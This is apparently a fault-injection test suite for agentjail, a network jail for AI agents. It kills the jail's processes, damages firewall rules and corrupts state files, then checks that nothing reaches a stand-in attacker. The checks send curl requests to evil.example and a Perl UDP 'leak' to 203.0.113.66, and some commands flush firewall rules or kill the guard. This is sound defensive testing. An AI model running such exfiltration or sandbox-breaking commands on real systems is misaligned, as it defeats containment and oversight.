/**
 * Death and damage of any part, on the real kernel, in both isolations, while a jailed program hammers the attacker.
 * Judge: the capture shows no packet to the attacker; the kernel shows nothing left after `agentjail gc`.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import t, { type Test } from 'tap'
import { damage, denyLine, firewall, tool } from '../lab/firewall.js'
import {
  cwd,
  eachCase,
  eventually,
  gates,
  gc,
  granted,
  hammer,
  isolations,
  jailed,
  joined,
  joining,
  nothingLeft,
  openBench,
  policyPath,
  random,
  seed,
  silence,
  start,
  type Bench,
} from './faults-kit.js'

/** Instants at which the warden is killed, in each isolation. */
const kills = Number(process.env['AGENTJAIL_KILLS'] ?? 25)
/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 280_000

const wardenKilled = async (t: Test, { lab, prefix }: Bench) => {
  const next = random(seed)
  let [reached, stopping] = [0, 0]
  t.comment(`AGENTJAIL_SEED=${seed}`)
  for (let n = 0; n < kills; n++) {
    const jail = lab.spawnAgentjail([...prefix, '--', ...hammer], { timeout: 30_000, cwd })
    if (n % 3 === 2) {
      await jail.until(/started/, 20_000)
      jail.kill('SIGTERM')
      await sleep(next() * 120)
      stopping++
    } else await sleep(next() * 1200)
    jail.kill('SIGKILL')
    await jail.ended
    if (jail.stdout().includes('started')) reached++
    const ended = await eventually(() => jailed(lab).length === 0 && gates(lab).length === 0)
    t.ok(ended, `kill ${n}: the command and the gate ended with the warden`)
  }
  t.ok(reached > 0, `${reached} of ${kills} were killed after the launch, ${stopping} while ending`)
  await gc(t, lab, 'kills')
  await nothingLeft(t, lab, `${kills} kills`)
  await silence(t, lab, `${kills} kills`)
}

const gateKilled = async (t: Test, bench: Bench) => {
  const { lab } = bench
  const jail = await start(bench)
  t.match((await granted(lab)).stdout, /path \/ok/, 'a granted name is reached')
  const [first] = gates(lab)
  t.ok(first, 'there is a gate')
  for (const gate of gates(lab)) await lab.run(['kill', '-9', String(gate.pid)])
  await jail.until(/the gate ended .* is started again/)
  const again = await eventually(async () => /path \/ok/.test((await granted(lab)).stdout), 10)
  t.ok(again, 'the new gate serves')
  for (const gate of gates(lab)) await lab.run(['kill', '-9', String(gate.pid)])
  const { stderr } = await jail.ended
  t.match(stderr, /the gate ended again: .*; the command is ended/)
  await nothingLeft(t, lab, 'gate killed twice')
  await silence(t, lab, 'gate killed twice')
}

/** The command trusts the first gate's CA: the second has the same. */
const httpGateKilled = async (t: Test, bench: Bench) => {
  const { lab } = bench
  const path = '/etc/agentjail/policies/http.yaml'
  lab.writeFile(
    path,
    'version: 1\nname: faults\nnetwork:\n  allow: [{ host: api.openai.com, inspect: http, access: read-only }]\n',
  )
  const prefix = bench.prefix.map((word) => (word === policyPath ? path : word))
  const jail = await start({ ...bench, prefix })
  const certificate = `openssl s_client -connect api.openai.com:443 -servername api.openai.com -verify_return_error \
    -CAfile "$SSL_CERT_FILE" </dev/null 2>&1`
  const ask = () =>
    joined(
      lab,
      ['sh', '-c', `curl -sS -m 5 https://api.openai.com/v1/models; ${certificate}`],
      30_000,
    )
  const issuer = (text: string) => /^issuer=.*$/m.exec(text)?.[0]
  const before = await ask()
  t.match(before.stdout, /invalid_api_key/, `served: ${before.stderr}`)
  t.match(issuer(before.stdout), /agentjail faults/, "by the jail's own CA")
  for (const gate of gates(lab)) await lab.run(['kill', '-9', String(gate.pid)])
  await jail.until(/the gate ended .* is started again/)
  let after = before
  const isServed = await eventually(async () => {
    after = await ask()
    return /invalid_api_key/.test(after.stdout)
  }, 10)
  t.ok(isServed, `the command trusts the new gate: ${after.stdout} ${after.stderr}`)
  t.equal(issuer(after.stdout), issuer(before.stdout), 'it is the same CA')
  jail.kill('SIGTERM')
  await jail.ended
  await lab.run(['rm', path])
  await nothingLeft(t, lab, 'gate with a CA killed')
  await silence(t, lab, 'gate with a CA killed')
}

const wardenStopped = async (t: Test, bench: Bench) => {
  const jail = await start(bench, hammer)
  jail.kill('SIGSTOP')
  await sleep(1500)
  await silence(t, bench.lab, 'warden stopped')
  jail.kill('SIGCONT')
  // It stopped with its child.
  jail.child.kill('SIGCONT')
  jail.kill('SIGTERM')
  t.equal((await jail.ended).signal, 'SIGTERM')
  // The program that started it in the lab may end before it.
  await eventually(() => bench.lab.processes().every(({ command }) => !command.includes('faults')))
  await nothingLeft(t, bench.lab, 'warden stopped and continued')
}

/** A Ctrl-C is the command's, which may go on: nothing that holds the jail takes it for its own. */
const interrupted = async (t: Test, { lab, prefix }: Bench) => {
  const taking = `$SIG{INT} = sub { print "taken\\n" }; $| = 1; print "started\\n"; sleep 1 while 1`
  const argv = [...prefix, '--', 'perl', '-e', taking]
  const jail = lab.spawnAgentjail(argv, { tty: true, timeout: 60_000, cwd })
  await jail.until(/started/, 20_000)
  const holders = () => lab.processes().filter(({ command }) => /^\S*nft .*-i/.test(command))
  const before = holders()
  t.equal(before.length > 0, firewall === 'nftables', 'nft holds it')
  jail.write('\u0003')
  await jail.until(/taken/)
  // As long as a watch needs to see it.
  await sleep(1000)
  t.same(holders(), before, 'the same still do')
  t.notMatch(jail.stdout(), /restored/, 'and nothing had to be restored')
  t.equal((await lab.agentjail(['stop', 'faults'])).code, 0)
  await jail.ended
  await nothingLeft(t, lab, 'interrupted')
}

const damages: (readonly [name: string, argv: readonly string[]])[] = [
  ['everything flushed', damage.everything],
  ['ours alone deleted', damage.ours],
  ['one element deleted', damage.lead],
  ['one rule of ours gone', damage.rule],
  ['the static deny deleted', damage.deny],
  ...(damage.off === undefined
    ? []
    : ([
        ['the static deny switched off', damage.off('agentjail')],
        ['ours switched off', damage.off('agentjail_uid')],
      ] as const)),
  [
    'the guard killed',
    ['sh', '-c', 'kill -9 $(sed "s/.*pid\\":\\([0-9]*\\).*/\\1/" /run/agentjail/guard.json)'],
  ],
]

/** uid: noticed within a second (measured by the wall between damage and notice), restored, told, nothing out. */
const rulesDamaged = async (t: Test, bench: Bench) => {
  const { lab } = bench
  const jail = await start(bench)
  for (const [name, argv] of damages) {
    const seen = jail.stderr().length
    const { code, stderr } = await lab.run(argv)
    t.equal(code, 0, `${name}: ${stderr}`)
    const from = performance.now()
    const told = await eventually(() => jail.stderr().slice(seen).includes('have been restored'))
    t.ok(told, `${name}: restored and told`)
    t.comment(`${name}: told after ${Math.round(performance.now() - from)} ms`)
    t.match((await granted(lab)).stdout, /path \/ok/, `${name}: what is granted works`)
    await silence(t, lab, name)
  }
  jail.kill('SIGTERM')
  await jail.ended
  await nothingLeft(t, lab, 'damaged rules')
}

/** namespace: the host's firewall is not what holds the jail. */
const flushChangesNothing = async (t: Test, bench: Bench) => {
  const { lab } = bench
  const jail = await start(bench)
  await lab.run(damage.everything)
  await sleep(300)
  t.match((await granted(lab)).stdout, /path \/ok/, 'what is granted works')
  await silence(t, lab, 'flush')
  t.ok(
    await eventually(async () => (await lab.rules()).includes(denyLine), 200),
    'the second line comes back',
  )
  if (damage.off !== undefined) {
    await lab.run(damage.off('agentjail'))
    t.match(await lab.rules(), /dormant/, 'it is switched off')
    const isBack = await eventually(async () => !(await lab.rules()).includes('dormant'), 200)
    t.ok(isBack, 'and is switched on again')
  }
  jail.kill('SIGTERM')
  await jail.ended
  await nothingLeft(t, lab, 'flush')
}

const toolGone = async (t: Test, bench: Bench) => {
  const { lab } = bench
  const jail = await start(bench)
  await lab.run(['mv', tool, `${tool}.gone`])
  await sleep(500)
  jail.kill('SIGTERM')
  const { stderr } = await jail.ended
  t.same(jailed(lab), [], 'no process is left')
  // An nft that runs already takes them away without its file.
  if (bench.isolation === 'uid' && tool.endsWith('nft')) t.equal(stderr, '')
  else if (bench.isolation === 'uid') t.match(stderr, /could not remove the rules: .*iptables.*gc/)
  await lab.run(['mv', `${tool}.gone`, tool])
  await gc(t, lab, 'tool gone')
  await nothingLeft(t, lab, 'tool gone')
  await silence(t, lab, 'tool gone')
}

/** What agentjail cannot write or open: each refused before the launch in one line, or told, and nothing left. */
const noRoom = async (t: Test, { lab, prefix }: Bench) => {
  const run = (limit: string[] = []) =>
    lab.run([...limit, 'agentjail', ...prefix, '--', 'true'], { timeout: 30_000, cwd })
  const over = async (dir: string, options: string, script: string) => {
    const shell = `mount -t tmpfs -o ${options} tmpfs ${dir} && ${script}`
    const { code, stderr } = await lab.run(['sh', '-c', shell])
    t.equal(code, 0, stderr)
    const result = await run()
    await lab.run(['umount', dir])
    return result
  }
  const readOnly = await over('/run/agentjail', 'ro', 'true')
  t.match(
    readOnly,
    { code: 125, stderr: /^agentjail: cannot (make|write) \/run\/agentjail/i },
    'state directory read-only',
  )
  const full = await over(
    '/run/agentjail',
    'size=4k',
    'head -c 9999 /dev/zero > /run/agentjail/x || true',
  )
  t.match(
    full,
    { code: 125, stderr: /^agentjail: cannot (make|write) \/run\/agentjail/ },
    'state directory full',
  )
  const log = await over(
    '/var/log/agentjail',
    'size=4k,mode=700',
    'head -c 9999 /dev/zero > /var/log/agentjail/x || true',
  )
  t.equal(log.code, 0, `log full: the command runs: ${log.stderr}`)
  await nothingLeft(t, lab, 'no room')
  for (const files of [22, 26, 30, 36, 44]) {
    const result = await run(['prlimit', `--nofile=${files}`])
    t.ok(
      result.code === 0 || result.code === 125 || result.signal !== null,
      `${files} descriptors: ${result.code} ${result.stderr.slice(0, 200)}`,
    )
    t.notMatch(result.stderr, /\n\s+at /, `${files} descriptors: no stack`)
    t.ok(await eventually(() => jailed(lab).length === 0), `${files} descriptors: no process`)
  }
  await gc(t, lab, 'descriptors')
  await nothingLeft(t, lab, 'descriptors')
}

const stateDamaged = async (t: Test, { lab, prefix }: Bench) => {
  const file = '/run/agentjail/jails/faults.json'
  const uid = Number((await lab.run(['id', '-u', 'aj-faults'])).stdout)
  for (const [name, text] of [
    ['corrupted', '\u0000\u0001nonsense'],
    ['truncated', '{"v":1,"name":"fau'],
    ['older', `{"v":0,"name":"faults","uid":${uid}}`],
    ['empty', ''],
  ] as const) {
    lab.writeFile(file, text)
    const refused = await lab.agentjail([...prefix, '--', 'true'], { cwd })
    t.match(refused, { code: 125, stderr: /state file .*faults\.json.*agentjail gc/ }, name)
    const out = await lab.run(['setpriv', `--reuid=${uid}`, '--clear-groups', 'perl', '-e', shot])
    t.notMatch(out.stdout, /sent/, `${name}: the user stays denied`)
    await gc(t, lab, name)
    t.equal((await lab.agentjail([...prefix, '--', 'true'], { cwd })).code, 0, `${name}: repaired`)
  }
  await silence(t, lab, 'damaged state')
  await nothingLeft(t, lab, 'damaged state')
}
const shot = `use Socket; socket(my $s, AF_INET, SOCK_DGRAM, 0);
print send($s, 'leak', 0, pack_sockaddr_in(51820, inet_aton('203.0.113.66'))) ? "sent" : "refused: $!"`

/** Streams that are closed from the start, or whose reader left. */
const streams = async (t: Test, { lab, prefix }: Bench) => {
  const words = ['agentjail', ...prefix, '--'].join(' ')
  for (const script of [
    `${words} true <&- >&- 2>&-`,
    `${words} sh -c 'curl -sm2 http://evil.example; exit 3' 2>&1 >/dev/null | true`,
    `{ ${words} sh -c 'sleep 0.5; curl -sm2 http://evil.example; exit 3'; } 2>&1 | head -c 1 >/dev/null`,
  ]) {
    const { signal } = await lab.run(['sh', '-c', script], { timeout: 30_000, cwd })
    t.equal(signal, null, `${script.slice(-40)}: ends`)
    t.ok(await eventually(() => jailed(lab).length === 0), 'nobody is left')
  }
  await nothingLeft(t, lab, 'streams')
}

const joinAndStop = async (t: Test, bench: Bench) => {
  const { lab, prefix } = bench
  const jail = await start(bench)
  const taken = await lab.agentjail([...prefix, '--', 'true'], { cwd })
  t.match(taken, { code: 125, stderr: /jail faults is running already: pid \d+, since .*--join/ })
  const other = await joined(lab, ['sh', '-c', 'id -un; exit 7'])
  t.match(other, { code: 7, stdout: 'aj-faults\n' }, 'same user, own exit code')
  t.ok(jailed(lab).length > 0, 'the jail goes on after it')
  const second = lab.spawnAgentjail([...joining, 'sh', '-c', 'echo in; sleep 60'])
  await second.until(/in/)
  const stopped = await lab.agentjail(['stop', 'faults'])
  t.match(stopped, { code: 0, stdout: 'faults: stopped\n' })
  t.equal((await second.ended).signal, 'SIGKILL', "the jail's end is its end")
  t.equal((await jail.ended).signal, 'SIGTERM')
  t.match(await lab.agentjail(['stop', 'faults']), { code: 2, stderr: /no jail faults/ })
  await nothingLeft(t, lab, 'join and stop')
  await silence(t, lab, 'join and stop')
}

t.setTimeout(2 * timeout)
for (const isolation of isolations) {
  t.test(isolation, { timeout }, async (t) => {
    const bench = await openBench(t, isolation)
    const cases = {
      'kill -9 of the warden': wardenKilled,
      'kill -9 of the gate': gateKilled,
      'kill -9 of a gate with a CA': httpGateKilled,
      'Ctrl-C': interrupted,
      'SIGSTOP of the warden': wardenStopped,
      ...(isolation === 'uid'
        ? { 'damaged rules': rulesDamaged }
        : { 'flush of the host': flushChangesNothing }),
      'tool gone': toolGone,
      'no room, no descriptors': noRoom,
      'damaged state files': stateDamaged,
      'closed streams': streams,
      'join and stop': joinAndStop,
    }
    await eachCase(t, bench, timeout, cases)
  })
}
